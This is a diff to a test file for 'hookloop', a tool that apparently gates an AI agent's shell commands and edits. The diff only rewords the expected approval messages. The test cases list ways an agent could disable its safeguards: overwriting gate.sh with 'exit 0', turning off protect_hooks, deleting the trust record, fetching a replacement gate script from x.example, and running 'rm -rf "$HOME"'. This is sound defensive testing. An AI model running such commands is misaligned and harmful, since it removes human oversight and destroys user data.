@@ -25,22 +25,22 @@ describe('what holds the gates is not changed by a shell', () => {
     ['cp /tmp/settings.json .claude', '.claude/settings.json'],
     ['chmod -x gate.sh', 'gate.sh'],
     ['dd if=/dev/null of=gate.sh', 'gate.sh'],
-    ['rm -rf .hookloop/sessions/s1', 'what hookloop keeps of its sessions'],
-    ['echo {} > ~/.local/state/hookloop/trust.json', 'keeps what was trusted'],
+    ['rm -rf .hookloop/sessions/s1', "holds hookloop's sessions"],
+    ['echo {} > ~/.local/state/hookloop/trust.json', 'record of what is trusted'],
     ['echo protect_hooks: false > ~/.config/hookloop/config.yaml', "the user's hooks"],
-    ['rm "$HOME"/.local/state/hookloop/trust.json', 'keeps what was trusted'],
+    ['rm "$HOME"/.local/state/hookloop/trust.json', 'record of what is trusted'],
     ['rm .claude/*', '.claude/settings.json holds hooks'],
     ['rm .codex/hooks.json', '.codex/hooks.json calls hookloop'],
     ["bash -c 'echo exit 0 > gate.sh'", 'gate.sh'],
-    ['cd ~/.local/state/hookloop/bin && cp /bin/true hookloop', 'keeps what was trusted'],
+    ['cd ~/.local/state/hookloop/bin && cp /bin/true hookloop', 'record of what is trusted'],
     ['cd ~/.config && mkdir -p hookloop && cd hookloop && echo x > config.yaml', "the user's hooks"],
     ['cd $HOME/.config/hookloop; echo x > config.yaml', "the user's hooks"],
     ['cd "${HOME}/.config" && echo x > hookloop/config.yaml', "the user's hooks"],
-    ['cd ~/.local/state && rm -rf hookloop', 'keeps what was trusted'],
-    ['cd ~/.local/state/hookloop/ ; cd bin; cp /bin/true hookloop', 'keeps what was trusted'],
-    ['cd && rm -rf .local/state/hookloop', 'keeps what was trusted'],
+    ['cd ~/.local/state && rm -rf hookloop', 'record of what is trusted'],
+    ['cd ~/.local/state/hookloop/ ; cd bin; cp /bin/true hookloop', 'record of what is trusted'],
+    ['cd && rm -rf .local/state/hookloop', 'record of what is trusted'],
     ['echo x > ${XDG_CONFIG_HOME:-$HOME/.config}/hookloop/config.yaml', "the user's hooks"],
-    ['echo x > "${XDG_STATE_HOME:-${HOME}/.local/state}/hookloop/trust.json"', 'keeps what was trusted'],
+    ['echo x > "${XDG_STATE_HOME:-${HOME}/.local/state}/hookloop/trust.json"', 'record of what is trusted'],
     ['rm -rf .codex', '.codex/hooks.json calls hookloop'],
     ['mv .codex x', '.codex/hooks.json calls hookloop'],
     ['git checkout HEAD~1 -- gate.sh', 'gate.sh'],
@@ -61,12 +61,12 @@ describe('what holds the gates is not changed by a shell', () => {
     ['cp -r /tmp/x/. .claude', '.claude/settings.json'],
     ['cp -r /tmp/x/.claude .', '.claude/settings.json'],
     ['rm gate*', 'gate.sh'],
-    ['rm -rf .', 'so an agent does not change it'],
-    ['rm -rf ~/.local', 'keeps what was trusted'],
+    ['rm -rf .', 'so an agent may not change it'],
+    ['rm -rf ~/.local', 'record of what is trusted'],
     ['rm -rf "$HOME"', "the user's hooks"],
-    ['cp -r /tmp/other/. .', 'so an agent does not change it'],
+    ['cp -r /tmp/other/. .', 'so an agent may not change it'],
     ['rsync -rtv /tmp/other/ .claude/', '.claude/settings.json'],
-    ['rsync -a /tmp/other/ ./', 'so an agent does not change it'],
+    ['rsync -a /tmp/other/ ./', 'so an agent may not change it'],
     ['cp /tmp/other/* .claude/', '.claude/settings.json'],
     ['curl -so gate.sh https://x.example/y', 'gate.sh'],
     ['wget -qO gate.sh https://x.example/y', 'gate.sh'],
@@ -120,7 +120,7 @@ describe('what holds the gates is not changed by a shell', () => {
     );
     const state = join(sandbox.env['HOME']!, '.local/state/hookloop');
     mkdirSync(state, { recursive: true });
-    expect(await decide('shell', { command: ['rm', 'trust.json'], [field]: state })).toMatchObject(asks('was trusted'));
+    expect(await decide('shell', { command: ['rm', 'trust.json'], [field]: state })).toMatchObject(asks('what is trusted'));
     expect(await decide('shell', { command: 'rm gate.sh', [field]: '.claude' })).toEqual({ kind: 'proceed' });
     expect(await decide('shell', { command: 'rm gate.sh', [field]: 'nowhere' })).toMatchObject(asks('gate.sh'));
   });
@@ -197,11 +197,11 @@ describe('what holds the gates is not changed by a shell', () => {
   test('in the folder where the agent is', async () => {
     const state = join(sandbox.env['HOME']!, '.local/state/hookloop');
     mkdirSync(state, { recursive: true });
-    expect(await decide('Bash', { command: 'rm trust.json' }, state)).toMatchObject(asks('was trusted'));
+    expect(await decide('Bash', { command: 'rm trust.json' }, state)).toMatchObject(asks('what is trusted'));
     const link = join(sandbox.project, 'elsewhere');
     symlinkSync(state, link);
-    expect(await decide('Bash', { command: 'echo > new.sh' }, link)).toMatchObject(asks('was trusted'));
-    expect(await decide('Bash', { command: 'echo > new.sh', workdir: 'elsewhere' })).toMatchObject(asks('was trusted'));
+    expect(await decide('Bash', { command: 'echo > new.sh' }, link)).toMatchObject(asks('what is trusted'));
+    expect(await decide('Bash', { command: 'echo > new.sh', workdir: 'elsewhere' })).toMatchObject(asks('what is trusted'));
   });
 });
 
@@ -212,19 +212,19 @@ describe('what holds the gates is not changed by an edit', () => {
     ['replace', () => ({ file_path: './src/../gate.sh' }), 'gate.sh'],
     ['MultiEdit', () => ({ file_path: 'a.ts', edits: [{ file_path: 'gate.sh' }] }), 'gate.sh'],
     ['apply_patch', () => ({ command: '*** Begin Patch\n*** Delete File: gate.sh\n*** End Patch' }), 'gate.sh'],
-    ['Write', () => ({ file_path: '.hookloop/sessions/s1/journal.jsonl' }), 'what hookloop keeps of its sessions'],
+    ['Write', () => ({ file_path: '.hookloop/sessions/s1/journal.jsonl' }), "holds hookloop's sessions"],
     [
       'Write',
       () => ({ file_path: join(sandbox.env['HOME']!, '.local/state/hookloop/trust.json') }),
-      'what was trusted',
+      'record of what is trusted',
     ],
     ['write', () => ({ filePath: '.codex/hooks.json' }), 'calls hookloop'],
     ['Write', () => ({ file_path: '.codex/config.toml' }), '.codex/config.toml is a settings file of codex'],
     ['Write', () => ({ file_path: inHome('.codex/hooks.json') }), 'settings file of codex, which calls hookloop'],
     ['Write', () => ({ file_path: inHome('.codex/config.toml') }), 'settings file of codex'],
-    ['Write', () => ({ file_path: inHome('.cache/hookloop/plans/x.json') }), 'what hookloop has compiled'],
-    ['Write', () => ({ file_path: inHome('.cache/hookloop/code/x') }), 'what hookloop has compiled'],
-    ['Write', () => ({ file_path: `/dev/shm/hookloop-${process.getuid?.()}/x/y.json` }), 'what was decided'],
+    ['Write', () => ({ file_path: inHome('.cache/hookloop/plans/x.json') }), 'cache of compiled hooks'],
+    ['Write', () => ({ file_path: inHome('.cache/hookloop/code/x') }), 'cache of compiled hooks'],
+    ['Write', () => ({ file_path: `/dev/shm/hookloop-${process.getuid?.()}/x/y.json` }), 'record of decisions'],
     ['Write', () => ({ file_path: join(dirname(realpathSync(process.argv[1]!)), 'main.cjs') }), 'is hookloop itself'],
     ['Write', () => ({ file_path: process.argv[1]! }), 'is hookloop itself'],
     ['mcp__fs__write_file', () => ({ path: 'gate.sh', content: 'exit 0' }), 'gate.sh is run by a hook'],
@@ -255,7 +255,7 @@ describe('what holds the gates is not changed by an edit', () => {
   test('in the cache that the environment names', async () => {
     sandbox.env['XDG_CACHE_HOME'] = join(sandbox.base, 'cache');
     const file_path = join(sandbox.base, 'cache/hookloop/plans/x.json');
-    expect(await decide('Write', { file_path })).toMatchObject(asks('what hookloop has compiled'));
+    expect(await decide('Write', { file_path })).toMatchObject(asks('cache of compiled hooks'));
   });
 
   test('where it is reached by a link, or through one to what does not exist yet', async () => {
@@ -264,7 +264,7 @@ describe('what holds the gates is not changed by an edit', () => {
     symlinkSync('real/gate.sh', join(sandbox.project, 'gate.sh'));
     expect(await decide('Write', { file_path: 'real/gate.sh' })).toMatchObject(asks('is run by a hook'));
     symlinkSync(inHome('.local/state/hookloop/new.json'), join(sandbox.project, 'innocent.json'));
-    expect(await decide('Write', { file_path: 'innocent.json' })).toMatchObject(asks('what was trusted'));
+    expect(await decide('Write', { file_path: 'innocent.json' })).toMatchObject(asks('record of what is trusted'));
   });
 
   test('under another name', async () => {
